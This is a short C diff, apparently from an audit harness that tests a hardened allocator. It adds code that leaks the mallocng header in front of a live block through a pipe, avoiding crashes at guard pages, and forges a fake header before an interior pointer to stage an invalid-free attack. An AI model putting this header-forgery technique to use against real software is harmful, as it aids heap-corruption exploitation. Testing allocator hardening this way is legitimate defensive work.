@@ -27,17 +27,40 @@
 static void *(*volatile do_malloc)(size_t) = malloc;
 static void (*volatile do_free)(void *) = free;
 
+/*
+ * The leak: the 4 bytes in front of the live block, read through a pipe so
+ * that an unmapped page there (the hardened heap may put a block right
+ * after a guard page) is an EFAULT, not a fault that ends the attack.
+ */
+static int leak_header(const unsigned char *record, unsigned char header[4])
+{
+	int fds[2];
+	int ok;
+
+	if (pipe(fds) != 0)
+		return 0;
+	ok = write(fds[1], record - 4, 4) == 4 && read(fds[0], header, 4) == 4;
+	close(fds[0]);
+	close(fds[1]);
+	return ok;
+}
+
 /* Writes, in front of the interior pointer, the header mallocng would have
  * written for a block starting there: the live block's slot index, no
  * reserved bytes, and the live block's offset plus INTO / 16 units. */
 static void forge_header(unsigned char *record, unsigned char *interior)
 {
+	unsigned char header[4];
 	uint16_t offset;
 
-	memcpy(&offset, record - 2, sizeof(offset));
+	if (!leak_header(record, header)) {
+		AUDIT_SAY("invalid-free: nothing readable in front of the block: no header to copy");
+		return;
+	}
+	memcpy(&offset, header + 2, sizeof(offset));
 	offset += INTO / 16;
 	memcpy(interior - 2, &offset, sizeof(offset));
-	interior[-3] = record[-3] & 31;
+	interior[-3] = header[1] & 31;
 	interior[-4] = 0;
 }
 
